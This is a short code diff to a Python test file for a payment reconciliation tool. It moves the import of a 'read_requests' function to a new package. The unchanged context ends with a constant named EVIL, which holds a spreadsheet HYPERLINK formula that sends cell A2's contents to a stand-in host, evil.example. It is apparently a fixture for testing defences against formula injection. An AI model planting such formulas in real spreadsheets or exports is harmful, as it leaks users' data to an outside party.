@@ -12,6 +12,7 @@ import openpyxl
 import pytest
 import sqlalchemy as sa
 from chainenv import ChainEnv, cli_config, run_cli
+from paybridge_reconciliation.inputs import read_requests
 from recon_store_helpers import pay_scenario, paybridge_config, payer
 from sqlalchemy.orm import Session
 from typer.testing import CliRunner
@@ -21,7 +22,6 @@ from paybridge.cli.main import app
 from paybridge.recon_runs.report import write_report
 from paybridge.recon_runs.run import reconcile_store
 from paybridge.store.models import PaymentRequest
-from reconciliation.inputs import read_requests
 
 pytestmark = pytest.mark.anvil
 EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
